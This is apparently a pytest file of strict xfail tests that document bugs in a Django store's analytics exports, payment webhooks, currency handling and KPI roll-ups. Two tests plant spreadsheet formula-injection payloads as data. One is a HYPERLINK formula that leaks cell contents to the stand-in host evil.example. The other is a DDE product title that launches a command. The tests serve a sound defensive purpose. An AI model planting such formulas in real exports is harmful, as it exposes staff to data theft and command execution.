"""Review 2: failing tests documenting bugs found in payments, fulfillment and analytics.

Each is xfail(strict=True): it fails today for the reason given, and will start passing
(and so break the suite, as a reminder to drop the marker) once the bug is fixed.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db


# --- analytics ---------------------------------------------------------------------------------

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0"


def _csv(client, table: str, day) -> list[list[str]]:
    response = client.get(
        reverse("analytics:staff-export", args=[table]),
        {"start": day.isoformat(), "end": day.isoformat()},
    )
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.xfail(
    strict=True,
    reason="analytics/views/staff.py:108 writes Visit.source (the visitor's own utm_source) "
    "into the CSV as is: a link with ?utm_source==hyperlink(...) plants a formula that runs "
    "when staff open the export in a spreadsheet (catalog/csv_io.py:_defuse exists for this)",
)
def test_sources_export_defuses_a_formula_planted_through_utm_source(client, staff_login, owner):
    from analytics.models import Visit
    from analytics.selectors import store_today

    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    response = client.get("/", {"utm_source": planted}, HTTP_USER_AGENT=BROWSER)
    assert response.status_code == 200
    assert Visit.objects.get().source.startswith("=")  # recorded as typed (lowercased)

    staff_login(owner)
    rows = _csv(client, "sources", store_today())
    cells = [row[0] for row in rows[1:]]
    assert cells, rows
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells


@pytest.mark.xfail(
    strict=True,
    reason="analytics/views/staff.py:121 writes product titles into the CSV as is; a title "
    "starting with = + - @ becomes a formula in the spreadsheet (catalog's own export "
    "defuses the same titles)",
)
def test_products_export_defuses_a_formula_in_a_product_title(client, staff_login, owner):
    from analytics.models import ProductView
    from analytics.selectors import store_today
    from tests.factories import ProductFactory

    product = ProductFactory(title="=1+2*cmd|' /C calc'!A0")
    from django.utils import timezone

    ProductView.objects.create(visit_key="a" * 32, product=product, viewed_at=timezone.now())

    staff_login(owner)
    rows = _csv(client, "products", store_today())
    titles = [row[1] for row in rows[1:]]
    assert titles, rows
    assert not any(title.startswith(FORMULA_STARTS) for title in titles), titles


@pytest.mark.xfail(
    strict=True,
    reason="analytics/selectors.py:146 counts only Refund rows; a lost chargeback "
    "(orders/disputes.py:166 _lost) counts as refunded on the order and customer but makes "
    "no Refund, so the KPI refunds and net revenue / gross profit keep the lost money",
)
def test_a_lost_dispute_counts_in_the_days_refunds(make_order):
    from analytics.models import DailyKpi
    from analytics.selectors import store_today
    from analytics.services import kpis_roll_up
    from orders.disputes import dispute_record
    from orders.models import Dispute

    order = make_order()
    dispute_record(
        payment=order.payments.get(),
        reference="dp_lost",
        status=Dispute.Status.LOST,
        amount=order.total,
        currency=order.currency,
        reason="fraudulent",
    )
    order.refresh_from_db()
    assert order.refunded_total == order.total  # the order's books: all of it went back

    today = store_today()
    kpis_roll_up(first=today, last=today)
    kpi = DailyKpi.objects.get(day=today)
    assert kpi.gross_revenue == order.total
    assert (kpi.refunds, kpi.net_revenue) == (order.total, Decimal("0.00"))


@pytest.mark.xfail(
    strict=True,
    reason="analytics/middleware.py:58 keeps up to 200 characters of the referrer host and "
    "line 113 uses it as the source, but Visit.source / Visitor.first_source / "
    "DailySourceKpi.source hold 100 (analytics/models.py:24,47,139): on PostgreSQL the "
    "visit's INSERT fails and the visit and any order attribution in it are silently lost",
)
def test_a_long_referrer_host_fits_the_source_column(rf):
    from analytics.middleware import page_view_for
    from analytics.models import Visit, Visitor

    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"  # a valid 190-char name
    request = rf.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/page")
    from django.contrib.auth.models import AnonymousUser

    request.user = AnonymousUser()
    view = page_view_for(request)
    assert len(view.source) <= Visit._meta.get_field("source").max_length
    assert len(view.source) <= Visitor._meta.get_field("first_source").max_length


# --- payments ----------------------------------------------------------------------------------


@pytest.mark.xfail(
    strict=True,
    reason="orders/webhooks.py:52 hmac.compare_digest raises TypeError for a str with "
    "non-ASCII characters, so a junk Stripe-Signature header is a 500 (and an error "
    "report) instead of the 400 every other bad signature gets",
)
def test_a_non_ascii_stripe_signature_is_a_400_not_a_crash(client, settings):
    settings.STRIPE_WEBHOOK_SECRET = "whsec_test"
    client.raise_request_exception = False
    response = client.post(
        reverse("orders:stripe-webhook"),
        data=b'{"id": "evt_1"}',
        content_type="application/json",
        HTTP_STRIPE_SIGNATURE="t=1700000000,v1=\u00e9\u00e9",
    )
    assert response.status_code == 400


@pytest.mark.xfail(
    strict=True,
    reason="analytics/middleware.py:111 stores request.path as Visit.landing_path, and the "
    "guest's order, pay and return pages carry the signed status token in the path "
    "(orders/urls.py, fulfillment/urls.py): a bearer credential that opens the order, its "
    "payment and returns ends up kept in the analytics table",
)
def test_visits_do_not_keep_the_order_status_token(client, make_order):
    from analytics.models import Visit
    from orders.emails import order_status_token

    order = make_order(paid=False)
    token = order_status_token(order)
    for name in ("orders:order-status", "orders:pay"):
        response = client.get(reverse(name, args=[token]), HTTP_USER_AGENT=BROWSER)
        assert response.status_code == 200
    visit = Visit.objects.get()
    assert visit.page_views == 2  # the visits are recorded...
    assert token not in visit.landing_path  # ...but not the credential in their path


@pytest.mark.postgres
@pytest.mark.xfail(
    strict=True,
    reason="analytics/middleware.py:58,113: a referrer host over 100 characters becomes the "
    "visit's source; PostgreSQL refuses the value (varchar(100)) and the visit is lost "
    "without a trace (the error is swallowed by the response's close)",
)
def test_a_visit_from_a_long_referrer_host_is_recorded(client):
    from analytics.models import Visit

    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"
    response = client.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/")
    assert response.status_code == 200
    assert Visit.objects.count() == 1


@pytest.mark.xfail(
    strict=True,
    reason="analytics/services.py:215 kpis_days_due re-rolls only the last two days, but an "
    "order counts on its creation day once paid (selectors.py:8): a bank transfer paid three "
    "days later (or an order cancelled later) never reaches that day's rolled-up figures",
)
def test_an_order_paid_days_after_it_was_placed_counts_in_its_days_revenue(make_order):
    from datetime import timedelta

    from django.utils import timezone

    from analytics.models import DailyKpi
    from analytics.selectors import store_today
    from analytics.services import kpis_roll_up_due
    from orders.models import Order
    from orders.services import order_mark_paid
    from tests.factories import StaffFactory

    today = store_today()
    placed_on = today - timedelta(days=4)
    order = make_order(paid=False)  # bank transfer, waiting for the money
    Order.objects.filter(pk=order.pk).update(created_at=timezone.now() - timedelta(days=4))
    kpis_roll_up_due(today=today)  # the nightly job: the day is rolled, nothing paid yet
    assert DailyKpi.objects.get(day=placed_on).orders == 0

    order_mark_paid(order=Order.objects.get(pk=order.pk), actor=StaffFactory())
    kpis_roll_up_due(today=today + timedelta(days=1))  # the next nights
    kpis_roll_up_due(today=today + timedelta(days=2))

    kpi = DailyKpi.objects.get(day=placed_on)
    assert (kpi.orders, kpi.gross_revenue) == (1, order.total)


@pytest.mark.xfail(
    strict=True,
    reason="config/money.py:9 lists 7 of Stripe's 16 zero-decimal currencies (no BIF DJF GNF "
    "KMF MGA PYG RWF UGX VUV XPF), so orders/payments/stripe_provider.py:38 multiplies by 100: "
    "a store in one of them would charge (and refund) 100 times the price",
)
@pytest.mark.parametrize("currency", ["PYG", "XPF", "RWF"])
def test_stripe_amounts_of_every_zero_decimal_currency_are_whole_units(currency):
    from orders.payments.stripe_provider import from_minor_units, to_minor_units

    assert to_minor_units(Decimal("50000"), currency) == 50000
    assert from_minor_units(50000, currency) == Decimal("50000")


@pytest.mark.xfail(
    strict=True,
    reason="orders/webhooks.py:84 returns at once for an event already stored, even one never "
    "applied (its task lost when the broker was down, or out of retries); nothing in "
    "CELERY_BEAT_SCHEDULE runs apply_webhook_events, so Stripe's redelivery is answered "
    "'already stored' and the payment is never recorded",
)
def test_a_redelivered_event_whose_task_was_lost_is_applied(
    client, stripe_order, stripe_fake, django_capture_on_commit_callbacks, monkeypatch
):
    from kombu.exceptions import OperationalError as BrokerDown

    from orders.models import Payment
    from orders.tasks import webhook_event_apply_task
    from tests.fakes import stripe_events as ev

    payment = stripe_order.payments.get()
    payload = ev.event("payment_intent.succeeded", ev.intent(payment.reference))

    def broker_down(*args, **kwargs):
        raise BrokerDown("Connection refused")

    monkeypatch.setattr(webhook_event_apply_task, "delay", broker_down)
    # In production the row commits, then the on-commit enqueue fails: the view answers 500.
    with pytest.raises(BrokerDown), django_capture_on_commit_callbacks(execute=True):
        ev.deliver(client, payload)
    from orders.models import WebhookEvent

    assert WebhookEvent.objects.get().processed_at is None  # stored, never applied
    monkeypatch.undo()

    with django_capture_on_commit_callbacks(execute=True):
        again = ev.deliver(client, payload)  # Stripe's redelivery, the broker is back
    assert again.status_code == 200
    payment.refresh_from_db()
    assert payment.status == Payment.Status.SUCCEEDED
